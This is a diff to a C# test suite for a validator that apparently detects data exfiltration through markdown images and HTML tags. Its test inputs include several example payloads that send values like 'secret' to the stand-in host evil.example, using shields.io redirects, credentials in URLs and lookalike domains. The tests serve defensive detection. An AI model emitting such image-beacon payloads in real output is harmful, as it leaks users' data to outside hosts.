@@ -45,11 +45,41 @@ public sealed class ExfiltrationValidatorTests
     }
 
     [Theory]
+    [InlineData("![x](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2Fsecret)")]
+    [InlineData("![x](https://a:secret@img.shields.io/badge/a.svg)")]
+    [InlineData("![x](https://img.shields.io.evil.example/?d=secret)")]
+    public void Hosts_that_nobody_reads_carry_nothing_on(string text) => Assert.NotEmpty(Contract.Find(Validator, text));
+
+    [Theory]
+    [InlineData("So:\n\n```html\n<script src=\"https://code.jquery.com/jquery.js\"></script>\n<img src=\"https://evil.example/?grayscale\">\n```\n")]
+    [InlineData("Write `<iframe src=\"https://www.youtube.com/embed/x\">` or `![x](https://evil.example/?d=abc)`.")]
+    public void What_is_shown_as_code_fetches_nothing(string text)
+    {
+        IReadOnlyList<Finding> findings = Contract.Find(Validator, text);
+        Assert.Equal(2, findings.Count);
+        Assert.All(findings, finding => Assert.Equal(Severity.Low, finding.Severity));
+        Contract.CheckStreaming(Validator, text);
+    }
+
+    [Theory]
+    [InlineData("<pre>\n\n```\n<img src=\"https://evil.example/?d=abc\">\n```\n</pre>")]
+    [InlineData("a ` b\n`![x](https://evil.example/?d=abc)`")]
+    [InlineData("`a` ![x](https://evil.example/?d=abc) `b`")]
+    public void What_may_be_read_otherwise_is_a_way_out(string text)
+    {
+        Assert.Equal(Severity.High, Assert.Single(Contract.Find(Validator, text)).Severity);
+        Contract.CheckStreaming(Validator, text);
+    }
+
+    [Theory]
     [InlineData("![logo](https://good.example/logo.png)")]
     [InlineData("![logo](https://good.example/logo.png?w=800&q=80&fm=webp)")]
     [InlineData("![chart](chart.png?x=secret)")]
     [InlineData("![dot](data:image/png;base64,iVBORw0KGgo=)")]
     [InlineData("[search](https://www.example.com/search?q=water+cycle&hl=en)")]
+    [InlineData("![CI](https://img.shields.io/badge/build-passing-green.svg?style=flat-square&logo=github)")]
+    [InlineData("![x](https://picsum.photos/200/300?grayscale)")]
+    [InlineData("<style>@import url('https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap');</style>")]
     [InlineData("<img src='logo.png' alt='it''s'>")]
     [InlineData("List<int> a; if (a < b && c > d) curl(https://x.example/?a=b)")]
     public void Harmless_references_pass(string text)
